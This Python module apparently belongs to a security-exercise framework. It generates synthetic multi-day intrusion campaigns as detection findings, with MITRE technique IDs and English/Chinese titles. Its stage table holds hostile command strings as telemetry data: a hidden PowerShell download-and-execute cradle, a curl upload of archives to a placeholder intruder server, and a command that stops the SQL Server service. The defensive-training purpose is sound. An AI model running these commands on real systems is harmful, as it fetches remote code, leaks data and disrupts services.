"""One intruder who takes days: in by mail or a weakness, a script, along the network, and out with the data."""

from __future__ import annotations

from fsoc.exercise.campaigns.plan import AFTER_MS, Plan, Stage, Strike, begin, report, victims
from fsoc.exercise.finding import Finding, Json, asset, evidence, observable, process
from fsoc.exercise.spec import DAY_MS, HOUR_MS, CampaignKind

SHORTEST_MS, LONGEST_MS = DAY_MS, 6 * DAY_MS
FEWEST, MOST = 3, 4

_SYSTEM32 = "C:\\Windows\\System32\\"
_POWERSHELL = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"

# Tactic, technique, rule, category, severity, asset type, titles, (program, command).
_STAGES = (
    (
        ("initial_access", "T1190", "MB-122", "intrusions.application-compromise", 3, "server"),
        ("Weakness of a public application used", "對外應用程式弱點遭利用"),
        (_SYSTEM32 + "inetsrv\\w3wp.exe", "w3wp.exe -ap DefaultAppPool"),
    ),
    (
        ("execution", "T1059.001", "MB-153", "intrusions.system-compromise", 3, "server"),
        ("Script fetched and run in memory", "下載腳本並於記憶體執行"),
        (_POWERSHELL, "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('https://{server}/a')"),
    ),
    (
        ("lateral_movement", "T1021.006", "MB-154", "intrusions.system-compromise", 4, "server"),
        ("Remote management used from server to server", "伺服器間遠端管理橫向移動"),
        (_SYSTEM32 + "wsmprovhost.exe", "wsmprovhost.exe -Embedding"),
    ),
    (
        ("exfiltration", "T1041", "MB-155", "information-content-security.data-leak", 4, "server"),
        ("Archives sent over the intruder's own channel", "經入侵者通道外傳壓縮檔"),
        (_SYSTEM32 + "curl.exe", "curl.exe -T d:\\t\\{name}.7z https://{server}/u"),
    ),
    (
        ("impact", "T1489", "MB-156", "intrusions.system-compromise", 4, "server"),
        ("Services stopped one after another", "服務陸續遭停止"),
        (_SYSTEM32 + "net.exe", "net stop MSSQLSERVER /y"),
    ),
)


def kill_chain(stage: Stage) -> Plan:
    """Three or four institutions over one to six days; each sees at least three steps, in order, hours apart.

    Initial access, execution and lateral movement are always seen where the campaign needs it; what follows differs.
    """
    rng = stage.rng
    server, address, payload = stage.fresh.domain(), stage.fresh.ip(), stage.fresh.sha256()
    room_ms = stage.spec.end_ms - stage.spec.planted_from_ms - AFTER_MS
    lasts_ms = rng.randint(SHORTEST_MS, min(LONGEST_MS, room_ms))
    from_ms = begin(stage, lasts_ms)
    drafts = []
    for rank, member in enumerate(victims(stage, FEWEST, MOST)):
        spare = rank >= FEWEST
        steps = [0, 1, 2, *((3,), (4,), (3, 4))[rng.randrange(3)]]
        if spare:
            steps = sorted(rng.sample(steps, 2))
        # Each is entered in the first third; the steps share what is left, each in a part of its own.
        entered_ms = from_ms if rank == 0 else from_ms + rng.randrange(lasts_ms // 3)
        part_ms = (from_ms + lasts_ms - entered_ms) // len(steps)
        for number, index in enumerate(steps):
            at_ms = entered_ms + (number * part_ms + rng.randrange(part_ms - HOUR_MS // 2) if number else 0)
            finding = stage_finding(stage, index, member.hosts, server, address, payload)
            needed = not spare and index < 3
            drafts.append(report(stage, Strike(member, at_ms, spare), finding, needed=needed, by_technique=True))
    return Plan(CampaignKind.KILL_CHAIN, f"Intruder with {server}", drafts)


def stage_finding(stage: Stage, index: int, hosts: str, server: str, address: str, payload: str) -> Finding:
    """What one victim sees of one step. Every step shows the intruder's server; some show more."""
    (tactic, technique, rule, category, severity, asset_type), (title, title_zh), (image, command) = _STAGES[index]
    rng = stage.rng
    host, user = f"{hosts}-SRV-{rng.randrange(1, 900):04d}", f"{hosts}\\svc{rng.randrange(10, 99)}"
    ran = process(
        host,
        image,
        command.format(server=server, name=stage.fresh.hex(6)),
        _SYSTEM32 + "cmd.exe",
        user,
        Hashes=f"SHA256={payload if index == 1 else stage.fresh.sha256()}",
    )
    items: list[Json] = [ran]
    seen = [observable("domain", server, "infrastructure")]
    if index == 0:
        items = [evidence({"c-ip": address, "cs-method": "POST", "sc-status": 200}, category="webserver")]
        seen.append(observable("ipv4", address, "attacker"))
    elif index == 1:
        seen.append(observable("sha256", payload, "artefact"))
    return Finding(
        title=f"{title} ({host})",
        title_zh=f"{title_zh}（{host}）",
        text="Found when the connections of one server were looked at: it talks to a name that no other system of ours "
        "knows. The account is a service's and should not have been able to do this.",
        text_zh="清查單一伺服器連線時發現，該主機連線至本機構其他系統未曾出現之網域，所用帳號為服務帳號，不應具此權限。",
        category=category,
        severity=severity,
        confidence=70,
        attack=((tactic, technique),),
        trigger=("baseline", rule),
        evidence=items,
        observables=seen,
        assets=[asset(host, asset_type, 4)],
    )
